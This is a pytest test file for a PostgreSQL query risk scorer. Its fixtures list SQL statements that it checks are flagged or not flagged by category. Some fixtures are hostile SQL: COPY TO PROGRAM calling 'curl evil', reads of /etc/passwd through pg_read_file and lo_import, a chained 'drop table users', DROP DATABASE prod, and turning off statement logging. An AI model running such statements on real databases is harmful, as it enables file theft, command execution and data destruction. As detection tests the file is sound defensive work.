"""Every category with positives and near-miss negatives."""

from __future__ import annotations

import pytest

from protocols.postgres._risk_catalog import CATEGORY_SCORES
from protocols.postgres.risk import SqlRiskScorer


@pytest.fixture(scope="module")
def scorer() -> SqlRiskScorer:
    return SqlRiskScorer(None)


# (sql, categories that must be present)
POSITIVE = [
    ("SELECT abalance FROM pgbench_accounts WHERE aid = $1", {"read"}),
    ("/* drop table users */ select 1", {"read"}),
    ("select 1 -- delete from t", {"read"}),
    ("SHOW search_path", {"read"}),
    ("EXPLAIN DELETE FROM t", {"read"}),
    ("insert into t values (1)", {"write"}),
    ("UPDATE t SET a = 1 WHERE id = 2", {"write"}),
    ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", {"write"}),
    ("DELETE FROM public.users", {"delete_without_where", "write"}),
    ("delete from users where 1 = 1", {"delete_without_where"}),
    ("DeLeTe FrOm users WHERE true", {"delete_without_where"}),
    ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", {"delete_without_where"}),
    ("EXPLAIN ANALYZE DELETE FROM t", {"delete_without_where"}),
    ("update t set a = 1", {"update_without_where", "write"}),
    ("WITH u AS (UPDATE t SET a = 1 RETURNING id) SELECT count(*) FROM u", {"update_without_where"}),
    ("TRUNCATE a, b", {"truncate", "write"}),
    ("create table t (a int)", {"ddl"}),
    ("CREATE INDEX i ON t (a)", {"ddl"}),
    ("alter table t add column b int", {"ddl"}),
    ("ALTER TABLE t DROP COLUMN b", {"ddl", "drop_column"}),
    ("select 1 into newtable", {"ddl", "write"}),
    ("DROP TABLE users", {"ddl", "drop", "drop_table"}),
    ("drop table if exists a.b, c cascade", {"drop_table"}),
    ("DROP INDEX i", {"ddl", "drop"}),
    ("DROP SUBSCRIPTION s", {"ddl", "drop"}),
    ("DROP DATABASE prod", {"drop_database", "drop", "ddl"}),
    ("drop database if exists prod with (force)", {"drop_database"}),
    ("DROP SCHEMA s CASCADE", {"drop_schema"}),
    ("ALTER SYSTEM SET wal_level = minimal", {"alter_system"}),
    ("alter system reset all", {"alter_system"}),
    ("GRANT SELECT ON t TO bob", {"grant"}),
    ("GRANT admin TO bob", {"grant", "role"}),
    ("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob", {"grant"}),
    ("REVOKE ALL ON t FROM bob", {"revoke"}),
    ("revoke admin from bob", {"revoke", "role"}),
    ("CREATE ROLE bob", {"role"}),
    ("CREATE USER bob SUPERUSER", {"role"}),
    ("ALTER USER bob WITH PASSWORD 'x'", {"role"}),
    ("DROP ROLE bob", {"role", "drop"}),
    ("DROP OWNED BY bob", {"drop"}),
    ("COPY t TO PROGRAM 'curl evil'", {"copy_program"}),
    ("copy t from program 'cat /etc/passwd'", {"copy_program"}),
    ("COPY t FROM '/etc/passwd'", {"copy_file", "write"}),
    ("COPY (SELECT 1) TO '/tmp/x'", {"copy_file"}),
    ("COPY t FROM STDIN", {"copy_stdin", "write"}),
    ("COPY t TO STDOUT", {"copy_stdout"}),
    ("COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT", {"copy_stdout", "dangerous_function"}),
    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", {"dangerous_function"}),
    (
        "select * from (select pg_cancel_backend(pid) from pg_stat_activity) s",
        {"dangerous_function"},
    ),
    ("SELECT 1 WHERE EXISTS (SELECT PG_TERMINATE_BACKEND(1))", {"dangerous_function"}),
    ("select pg_catalog.pg_read_file('/etc/passwd')", {"dangerous_function"}),
    ("select pg_read_binary_file('x')", {"dangerous_function"}),
    ("select * from pg_ls_dir('.')", {"dangerous_function"}),
    ("select lo_import('/etc/passwd')", {"dangerous_function"}),
    ("select lo_export(1, '/tmp/x')", {"dangerous_function"}),
    ("select dblink_exec('host=x', 'drop table t')", {"dangerous_function", "dynamic_sql"}),
    ("select pg_reload_conf()", {"dangerous_function"}),
    ("select set_config('log_statement', 'none', false)", {"dangerous_function"}),
    ("select set_config('role', 'admin', false)", {"dangerous_function"}),
    ("select set_config(x, 'y', false) from t", {"dangerous_function"}),
    ("LOAD 'evil'", {"dangerous_function"}),
    ("DO $$ BEGIN PERFORM 1; END $$", {"do_block"}),
    ("do $$begin execute 'drop table x'; end$$", {"do_block", "dynamic_sql", "drop_table"}),
    ("DO $$BEGIN DELETE FROM t; END$$", {"do_block", "delete_without_where"}),
    ("DO LANGUAGE plpython3u $$ import os $$", {"do_block", "untrusted_language"}),
    ("DO $$BEGIN COPY t TO PROGRAM 'x'; END$$", {"do_block", "copy_program"}),
    ("DO $$BEGIN PERFORM pg_terminate_backend(1); END$$", {"dangerous_function"}),
    ("DO $$DECLARE r record; BEGIN FOR r IN EXECUTE 'select 1' LOOP END LOOP; END$$", {"dynamic_sql"}),
    (
        "CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END",
        {"ddl", "delete_without_where"},
    ),
    ("CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN TRUNCATE t; END $$", {"truncate"}),
    ("CREATE TABLE x AS SELECT pg_read_file('a')", {"ddl", "dangerous_function"}),
    ("SELECT 1 FROM t ORDER BY pg_cancel_backend(1)", {"dangerous_function"}),
    ("VALUES (pg_terminate_backend(1))", {"dangerous_function"}),
    ('SELECT "pg_terminate_backend"(1)', {"dangerous_function"}),
    (
        "CREATE FUNCTION f(t text) RETURNS void AS $$ BEGIN EXECUTE format('DROP TABLE %I', t); "
        "END $$ LANGUAGE plpgsql",
        {"ddl", "dynamic_sql"},
    ),
    ("CREATE FUNCTION f() RETURNS void AS 'delete from t' LANGUAGE sql", {"delete_without_where"}),
    ("CREATE FUNCTION f() RETURNS int AS 'x' LANGUAGE c", {"untrusted_language"}),
    ("select query_to_xml('delete from t', true, true, '')", {"dynamic_sql"}),
    ("CREATE EXTENSION dblink", {"extension", "ddl"}),
    ("SET ROLE admin", {"set_role"}),
    ("SET SESSION AUTHORIZATION bob", {"set_session_authorization"}),
    ("SET session_replication_role = replica", {"sensitive_setting"}),
    ("set log_statement = 'none'", {"sensitive_setting"}),
    ("SET statement_timeout = 0", {"setting"}),
    ("BEGIN", {"transaction"}),
    ("commit", {"transaction"}),
    ("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", {"transaction"}),
    ("VACUUM ANALYZE t", {"maintenance"}),
    ("analyze", {"maintenance"}),
    ("LISTEN ch", {"listen_notify"}),
    ("NOTIFY ch, 'x'", {"listen_notify"}),
    ("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", {"lock"}),
    ("CALL p(1)", {"call"}),
    ("PREPARE p AS SELECT 1", {"prepare"}),
    ("EXECUTE p", {"execute", "unknown_prepared"}),
    ("DEALLOCATE p", {"deallocate"}),
    ("select 1; drop table users", {"multi_statement", "drop_table"}),
    ("SELECT 1; SELECT 2", {"multi_statement", "read"}),
    ("", {"empty"}),
    ("-- only a comment", {"empty"}),
    ("selec 1", {"unparseable"}),
    ("DROP TABLE", {"unparseable"}),
]


@pytest.mark.parametrize(("sql", "expected"), POSITIVE)
def test_positive(scorer: SqlRiskScorer, sql: str, expected: set[str]) -> None:
    found = scorer.score(sql)
    assert expected <= found.categories, (found.categories, found.reasons)
    assert found.score == max(CATEGORY_SCORES[c] for c in found.categories) or (
        "unparseable" in found.categories
    )
    assert found.reasons


# (sql, categories that must be absent): the near misses.
NEGATIVE = [
    ("DELETE FROM users WHERE id = 1", {"delete_without_where"}),
    ("delete from users where id in (select id from old)", {"delete_without_where"}),
    ("UPDATE t SET a = 1 WHERE id = $1", {"update_without_where"}),
    ("WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d", {"delete_without_where"}),
    ("/* drop table users */ select 1", {"drop_table", "ddl", "drop"}),
    ("select 'drop database prod'", {"drop_database", "ddl"}),
    ("SELECT 'pg_terminate_backend(1)'", {"dangerous_function"}),
    ("select pg_backend_pid()", {"dangerous_function"}),
    ("select set_config('application_name', 'x', false)", {"dangerous_function"}),
    ("select current_setting('log_statement')", {"dangerous_function"}),
    ("COPY t TO STDOUT", {"copy_program", "copy_file"}),
    ("COPY t FROM STDIN", {"copy_program", "copy_file"}),
    ("EXPLAIN DELETE FROM t", {"delete_without_where", "write"}),
    ("EXPLAIN (ANALYZE false) DELETE FROM t", {"delete_without_where"}),
    ("DROP INDEX i", {"drop_table", "drop_database"}),
    ("select * from dropped_tables", {"drop", "drop_table"}),
    ("RESET ROLE", {"set_role"}),
    ("SET statement_timeout = 0", {"sensitive_setting"}),
    ("CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql", {"dynamic_sql"}),
    ("CREATE FUNCTION f() RETURNS int AS $$ BEGIN RETURN 1; END $$ LANGUAGE plpgsql", {"dynamic_sql"}),
    ("select 1; select 2", {"write"}),
    ("SELECT 1", {"multi_statement", "write", "unparseable"}),
    ("BEGIN; SELECT 1; COMMIT", {"write"}),
    ("insert into t select * from s", {"read"}),
]


@pytest.mark.parametrize(("sql", "absent"), NEGATIVE)
def test_near_miss(scorer: SqlRiskScorer, sql: str, absent: set[str]) -> None:
    found = scorer.score(sql)
    assert not (absent & found.categories), (found.categories, found.reasons)


def test_every_category_has_a_positive() -> None:
    seen: set[str] = set()
    s = SqlRiskScorer(None)
    for sql, _ in POSITIVE:
        seen |= s.score(sql).categories
    assert set(CATEGORY_SCORES) - seen <= {"other"}


@pytest.mark.parametrize(
    ("sql", "score"),
    [
        ("SELECT 1", 0),
        ("INSERT INTO t VALUES (1)", 50),
        ("DELETE FROM t", 75),
        ("DROP DATABASE d", 100),
        ("ALTER SYSTEM SET x = 1", 100),
        ("COPY t TO PROGRAM 'x'", 100),
        ("select 1; drop database d", 100),
        ("BEGIN", 25),
    ],
)
def test_scores(scorer: SqlRiskScorer, sql: str, score: int) -> None:
    assert scorer.score(sql).score == score


def test_reasons_are_human(scorer: SqlRiskScorer) -> None:
    assert "DELETE without WHERE on public.users" in scorer.score("DELETE FROM public.users").reasons
    assert "DROP DATABASE prod" in scorer.score("DROP DATABASE prod").reasons
    assert scorer.score("select 1; drop table x").reasons[-1] == "2 statements in one query"


def test_case_and_whitespace_do_not_matter(scorer: SqlRiskScorer) -> None:
    a = scorer.score("DELETE FROM t")
    b = scorer.score("  delete\n\tfrom   T  ;")
    assert a.categories == b.categories and a.score == b.score


def test_read_is_only_for_pure_reads(scorer: SqlRiskScorer) -> None:
    found = scorer.score("select 1; delete from t")
    assert "read" not in found.categories
    assert "read-only query" not in found.reasons
